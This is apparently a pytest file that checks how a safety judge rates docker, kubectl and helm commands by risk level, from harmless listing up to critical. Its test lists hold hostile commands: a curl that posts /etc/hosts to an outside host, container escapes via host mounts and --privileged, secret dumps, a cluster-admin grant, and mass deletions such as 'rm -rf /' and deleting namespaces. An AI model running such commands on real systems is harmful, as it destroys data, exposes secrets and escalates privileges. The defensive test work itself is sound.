"""Containers and clusters: on this machine, on others, and the commands inside."""

from __future__ import annotations

import pytest

from safety_core.model.level import Level
from tests.simulators.commands import by_level
from tests.simulators.judging import Judging

GREEN = r"""
docker ps
docker images --format '{{.ID}}'
docker exec web ls -la
docker system df
docker volume ls
docker compose -f a.yml logs -f --tail 10
docker compose exec web ls
docker inspect web
docker logs -f web
docker network ls
docker context ls
docker service logs -f s
docker --version
docker version
docker buildx ls
podman ps -a
kubectl get pods -A
kubectl get pods -n x -o yaml
kubectl get secret
kubectl get secrets -o wide
kubectl describe secret x
kubectl delete pod x --dry-run=client
kubectl apply -f x.yaml --dry-run=server
kubectl exec web -- ls /
kubectl logs web --tail=5
kubectl config view
kubectl auth can-i create pods
kubectl rollout status deploy/web
kubectl cluster-info
kubectl --context prod get pods
helm status x
helm upgrade --install x y --dry-run
helm get values x
helm template x y
argocd app list
istioctl analyze
kind get clusters
velero backup get
kubectl get all
kubectl get nodes -o custom-columns=NAME:.metadata.name
kubectl explain pods
kubectl diff -f x
kubectl get events --sort-by=.lastTimestamp
oc whoami
docker compose config
docker top x
docker scout cves x
helm search repo x
helm get all x
docker secret inspect s
kubectl -n shop get pods -o wide --watch
kubectl get pods -l app=web --field-selector status.phase=Running
"""

YELLOW = r"""
docker run --rm -v $PWD:/app node npm test
docker run -d -p 80:80 nginx
docker exec -it web bash
docker compose up -d
docker build -t x .
docker
docker cp web:/etc/passwd .
podman run -it ubuntu
kubectl scale deploy web --replicas=3
kubectl apply -f x.yaml
kubectl exec -it web -- bash
kubectl rollout restart deploy/web
kubectl cp web:/a a
kubectl patch deploy web -p '{}'
kubectl edit deploy web
helm upgrade x y
helm repo add a b
kubectl run x --image=nginx
kubectl create deployment x --image=y
docker rename a b
docker update --restart=always x
docker save x -o y.tar
kubectl debug node/n1 --image=busybox
kubectl create deployment web --image=nginx
kubectl rollout undo deploy/web
helm install a ./chart --post-renderer ./p.sh
helm pull a/b
"""

EXTERNAL = r"""
docker push a/b
kubectl port-forward svc/web 80:80
docker exec web curl -X POST -d @/etc/hosts https://example.com
docker buildx build --push -t a/b .
podman machine ssh
"""

RED = r"""
docker run -v /:/host alpine chroot /host
docker run --privileged alpine
docker exec web rm -rf /data
docker volume rm data
docker rm -f web
docker rm -f $(docker ps -aq)
docker rmi -f x
docker image prune -a
docker stop web
docker compose down
docker login -u x
docker network rm x
kubectl get secret x -o yaml
kubectl get pods,secrets -o json
kubectl get secret/x -o jsonpath='{.data}'
kubectl delete pod x
kubectl delete -f x.yaml
kubectl delete pod x --dry-run=none
kubectl drain node1 --ignore-daemonsets --delete-emptydir-data
kubectl cordon node1
kubectl scale deploy web --replicas=0
kubectl config view --raw
kubectl create clusterrolebinding x --clusterrole=cluster-admin --user=y
kubectl taint nodes n key=v:NoExecute
helm uninstall x
helm rollback x 1
helm upgrade x y --force
argocd app sync x --prune
flux suspend kustomization x
kind delete cluster
k3d cluster delete x
oc whoami -t
docker stack rm x
docker run --pid=host alpine ps
docker run --cap-add=SYS_ADMIN alpine
docker compose rm -f
kubectl delete node n1
kubectl certificate approve csr
kubectl create token sa
kubectl exec web -- sh -c 'rm -rf /data'
kubectl replace --force -f a.yaml
kubectl apply --prune -f a.yaml -l app=web
crictl rmi --prune
velero restore create --from-backup b
"""

CRITICAL = r"""
docker run --rm -it alpine sh -c 'rm -rf /'
docker system prune -af --volumes
docker-compose down --volumes
podman system reset
kubectl delete ns prod
kubectl delete namespace prod
kubectl delete pods --all
kubectl delete pvc data
kubectl delete validatingwebhookconfiguration x
argocd app delete x
minikube delete --all
velero backup delete x
velero schedule delete x
kubectl delete all --all -n x
kubectl delete crd a.example.com
velero uninstall
"""


@pytest.mark.parametrize(("level", "command"), by_level(GREEN, YELLOW, EXTERNAL, RED, CRITICAL))
def test_level(judging: Judging, level: Level, command: str) -> None:
    verdict = judging.verdict(judging.shell(command))
    assert verdict.level is level, verdict.hits
